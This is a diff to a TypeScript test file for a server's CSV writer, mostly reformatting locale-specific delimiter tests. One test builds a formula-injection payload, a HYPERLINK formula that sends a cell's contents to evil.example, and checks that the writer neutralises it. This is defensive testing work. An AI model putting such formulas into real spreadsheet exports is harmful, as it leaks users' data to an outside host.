@@ -5,7 +5,16 @@ import { LOCALE_IDS, type LocaleId } from '@portal/schema/locale-ids';
 import { streamCsv, writeCsv } from './csv-writer.ts';
 
 const SEMICOLON_LOCALES: LocaleId[] = ['et-EE', 'fi-FI', 'lv-LV', 'ru-RU', 'sv-FI'];
-const ROW: CsvCell[] = ['Perusmaksu; kuukausi', 'sanoi "hei"', 'kaksi\r\nriviä', -12, csvDecimal('-1234.56789'), csvCents(-5), null, 'Jānis Ozoliņš'];
+const ROW: CsvCell[] = [
+  'Perusmaksu; kuukausi',
+  'sanoi "hei"',
+  'kaksi\r\nriviä',
+  -12,
+  csvDecimal('-1234.56789'),
+  csvCents(-5),
+  null,
+  'Jānis Ozoliņš',
+];
 
 /** Issues 25 and 26: one writer, formula-guarded, as the locale's spreadsheets expect. */
 describe('the server’s CSV writer', () => {
@@ -28,7 +37,9 @@ describe('the server’s CSV writer', () => {
     (locale, trigger) => {
       const dangerous = `${trigger}HYPERLINK("https://evil.example/?"&A1)`;
       const csv = writeCsv(['a', 'b'], [[dangerous, -3]], locale);
-      const { delimiter, decimal } = SEMICOLON_LOCALES.includes(locale) ? { delimiter: ';', decimal: ',' } : { delimiter: ',', decimal: '.' };
+      const { delimiter, decimal } = SEMICOLON_LOCALES.includes(locale)
+        ? { delimiter: ';', decimal: ',' }
+        : { delimiter: ',', decimal: '.' };
       const guarded = `'${dangerous}`;
       const quoted = /[;,"\r\n]/.test(guarded) ? `"${guarded.replaceAll('"', '""')}"` : guarded;
       expect(csv).toContain(`\r\n${quoted}${delimiter}-3\r\n`);
@@ -49,6 +60,8 @@ describe('the server’s CSV writer', () => {
       yield ['=1+1', 2.5];
     }
     // As bytes: a TextDecoder would drop the byte-order mark.
-    expect((await buffer(streamCsv(['Nimi', 'Määrä'], rows(), 'fi-FI'))).toString('utf8')).toBe(writeCsv(['Nimi', 'Määrä'], [ROW, ['=1+1', 2.5]], 'fi-FI'));
+    expect((await buffer(streamCsv(['Nimi', 'Määrä'], rows(), 'fi-FI'))).toString('utf8')).toBe(
+      writeCsv(['Nimi', 'Määrä'], [ROW, ['=1+1', 2.5]], 'fi-FI'),
+    );
   });
 });
